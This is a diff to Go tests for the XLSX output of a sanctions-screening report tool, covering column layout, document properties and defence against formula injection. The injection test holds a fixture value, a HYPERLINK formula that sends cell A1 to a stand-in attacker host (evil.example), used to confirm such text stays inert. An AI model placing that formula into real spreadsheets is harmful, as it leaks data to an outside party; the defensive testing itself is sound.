@@ -3,6 +3,7 @@ package report
 import (
 	"archive/zip"
 	"bytes"
+	"encoding/xml"
 	"io"
 	"strconv"
 	"strings"
@@ -49,26 +50,27 @@ func TestXLSXRoundTrip(t *testing.T) {
 
 	// Results: header, then one row per record (clear ones included) with
 	// the csv cells, neutralised.
-	res := rows(t, f, SheetResults, len(csvHeader))
+	header := resultHeader()
+	res := rows(t, f, SheetResults, len(header))
 	if len(res) != len(ds)+1 {
 		t.Fatalf("Results has %d rows, want header + %d", len(res), len(ds))
 	}
-	if strings.Join(res[0], ",") != strings.Join(csvHeader, ",") {
+	if strings.Join(res[0], ",") != strings.Join(header, ",") {
 		t.Errorf("Results header = %v", res[0])
 	}
 	for i := range ds {
 		want := resultRow(&ds[i])
 		for j := range want {
-			want[j] = xlsxText(want[j])
+			want[j] = cleanXML(want[j]) // as given: no apostrophe in XLSX
 		}
 		for j := range want {
 			if res[i+1][j] != want[j] {
-				t.Errorf("Results row %d %s = %q, want %q", i+2, csvHeader[j], res[i+1][j], want[j])
+				t.Errorf("Results row %d %s = %q, want %q", i+2, header[j], res[i+1][j], want[j])
 			}
 		}
 	}
-	// Typed cells: row number and score are numbers.
-	for _, ref := range []string{"C2", "I3", "J3"} {
+	// Typed cells: row number, score and match count are numbers.
+	for _, ref := range []string{cellName(rcRow+1, 2), cellName(rcTopScore+1, 3), cellName(rcMatchCount+1, 3)} {
 		typ, err := f.GetCellType(SheetResults, ref)
 		if err != nil {
 			t.Fatal(err)
@@ -83,8 +85,8 @@ func TestXLSXRoundTrip(t *testing.T) {
 	for _, d := range ds {
 		for _, m := range d.Matches {
 			want = append(want, []string{
-				xlsxText(d.ID), xlsxText(d.Source), strconv.Itoa(d.Row), d.Decision, m.Role, xlsxText(m.Query),
-				m.EntityID, m.List, m.Kind, xlsxText(m.Name), xlsxText(m.MatchedName),
+				cleanXML(d.ID), cleanXML(d.Source), strconv.Itoa(d.Row), d.Decision, m.Role, cleanXML(m.Query),
+				m.EntityID, m.List, m.Kind, cleanXML(m.Name), cleanXML(m.MatchedName),
 				strconv.FormatFloat(m.Score, 'f', -1, 64), strings.Join(m.Programs, ";"), m.Explanation,
 			})
 		}
@@ -109,7 +111,7 @@ func TestXLSXRoundTrip(t *testing.T) {
 	checks := map[string]string{
 		"tool": info.Tool, "policy_sha256": info.PolicySHA256, "run_id": info.RunID,
 		"created_at": "2026-11-23T12:00:00Z", "list un": "2026-11-01", "list ofac": "2026-11-20",
-		"input": "shipments.csv,'-", "flag": "'--fail-on=block,'--format=json", "records": "5", "block": "1",
+		"input": "shipments.csv,-", "flag": "--fail-on=block,--format=json", "records": "5", "block": "1",
 	}
 	for k, v := range checks {
 		if strings.Join(got[k], ",") != v {
@@ -118,11 +120,15 @@ func TestXLSXRoundTrip(t *testing.T) {
 	}
 }
 
-// TestXLSXInjection checks that no cell holds a formula or starts with a
-// formula character.
+// TestXLSXInjection checks that no cell holds a formula, that text is kept
+// exactly as given (string cells are never evaluated, so no apostrophe is
+// added), and that text starting like a formula carries the quotePrefix
+// style, so that it stays text when someone edits the cell.
 func TestXLSXInjection(t *testing.T) {
 	ds := loadDecisions(t)
-	f := readBook(t, render(t, FormatXLSX, ds, Options{ShowSuppressed: true}))
+	b := render(t, FormatXLSX, ds, Options{ShowSuppressed: true})
+	f := readBook(t, b)
+	formulaStart := 0
 	for _, sheet := range f.GetSheetList() {
 		rs, err := f.GetRows(sheet)
 		if err != nil {
@@ -131,17 +137,73 @@ func TestXLSXInjection(t *testing.T) {
 		for i, r := range rs {
 			for j, c := range r {
 				ref, _ := excelize.CoordinatesToCellName(j+1, i+1)
-				if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
-					t.Errorf("%s!%s = %q starts with a formula character", sheet, ref, c)
-				}
 				if fm, _ := f.GetCellFormula(sheet, ref); fm != "" {
 					t.Errorf("%s!%s holds formula %q", sheet, ref, fm)
+				}
+				if strings.HasPrefix(c, "'") {
+					t.Errorf("%s!%s = %q: an apostrophe was added", sheet, ref, c)
+				}
+				if c == "" || !strings.ContainsRune("=+-@\t\r", rune(c[0])) {
+					continue
+				}
+				formulaStart++
+				typ, _ := f.GetCellType(sheet, ref)
+				if typ != excelize.CellTypeInlineString && typ != excelize.CellTypeSharedString {
+					t.Errorf("%s!%s = %q is not a string cell (type %v)", sheet, ref, c, typ)
+				}
+				style, _ := f.GetCellStyle(sheet, ref)
+				if xf := f.Styles.CellXfs.Xf[style]; xf.QuotePrefix == nil || !*xf.QuotePrefix {
+					t.Errorf("%s!%s = %q has no quotePrefix (style %d)", sheet, ref, c, style)
 				}
 			}
 		}
 	}
-	if v, _ := f.GetCellValue(SheetResults, "A6"); v != `'=HYPERLINK("http://evil.example/?"&A1,"click")` {
-		t.Errorf("injection id = %q", v)
+	if formulaStart < 5 {
+		t.Errorf("%d cells start like a formula, want the fixture's injections (at least 5)", formulaStart)
+	}
+	if v, _ := f.GetCellValue(SheetResults, "A6"); v != `=HYPERLINK("http://evil.example/?"&A1,"click")` {
+		t.Errorf("injection id = %q, want it as given", v)
+	}
+	// The cell format carries quotePrefix in styles.xml itself.
+	if !bytes.Contains(unzipAll(t, b)["xl/styles.xml"], []byte(`quotePrefix="true"`)) && !bytes.Contains(unzipAll(t, b)["xl/styles.xml"], []byte(`quotePrefix="1"`)) {
+		t.Error("styles.xml has no quotePrefix cell format")
+	}
+}
+
+// TestXLSXCoreProperties checks docProps/core.xml: the cp:, dc: and
+// dcterms: prefixes that ExcelJS needs (it refuses an unprefixed
+// lastModifiedBy), and values that excelize reads back.
+func TestXLSXCoreProperties(t *testing.T) {
+	b := render(t, FormatXLSX, loadDecisions(t), Options{})
+	core := unzipAll(t, b)["docProps/core.xml"]
+	for _, want := range []string{
+		`<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties"`,
+		`<cp:lastModifiedBy>screen v0.1.0</cp:lastModifiedBy>`,
+		`<dc:creator>screen v0.1.0</dc:creator>`,
+		`<dc:title>screen results</dc:title>`,
+		`<dcterms:created xsi:type="dcterms:W3CDTF">2026-11-23T12:00:00Z</dcterms:created>`,
+		`<dcterms:modified xsi:type="dcterms:W3CDTF">2026-11-23T12:00:00Z</dcterms:modified>`,
+	} {
+		if !bytes.Contains(core, []byte(want)) {
+			t.Errorf("core.xml lacks %s:\n%s", want, core)
+		}
+	}
+	for _, bad := range []string{"<lastModifiedBy>", "<coreProperties ", "xuri"} {
+		if bytes.Contains(core, []byte(bad)) {
+			t.Errorf("core.xml holds %s:\n%s", bad, core)
+		}
+	}
+	var doc struct {
+		XMLName xml.Name
+	}
+	if err := xml.Unmarshal(core, &doc); err != nil || doc.XMLName.Local != "coreProperties" ||
+		doc.XMLName.Space != "http://schemas.openxmlformats.org/package/2006/metadata/core-properties" {
+		t.Errorf("core.xml root = %+v, %v", doc.XMLName, err)
+	}
+	props, err := readBook(t, b).GetDocProps()
+	if err != nil || props.Creator != "screen v0.1.0" || props.LastModifiedBy != "screen v0.1.0" ||
+		props.Identifier != fixedInfo().RunID || props.Created != "2026-11-23T12:00:00Z" {
+		t.Errorf("doc props = %+v, %v", props, err)
 	}
 }
 
@@ -168,7 +230,7 @@ func TestXLSXLayout(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	filters := map[string]string{"xl/tables/table1.xml": `<autoFilter ref="A1:O6"`, "xl/tables/table2.xml": `<autoFilter ref="A1:N5"`}
+	filters := map[string]string{"xl/tables/table1.xml": `<autoFilter ref="A1:` + cellName(numResultCols, 6) + `"`, "xl/tables/table2.xml": `<autoFilter ref="A1:N5"`}
 	for _, zf := range z.File {
 		want, ok := filters[zf.Name]
 		if !ok {
@@ -192,7 +254,7 @@ func TestXLSXLayout(t *testing.T) {
 
 func TestXLSXEmpty(t *testing.T) {
 	f := readBook(t, render(t, FormatXLSX, nil, Options{}))
-	res := rows(t, f, SheetResults, len(csvHeader))
+	res := rows(t, f, SheetResults, numResultCols)
 	if len(res) != 1 {
 		t.Errorf("empty run: Results has %d rows, want the header only", len(res))
 	}
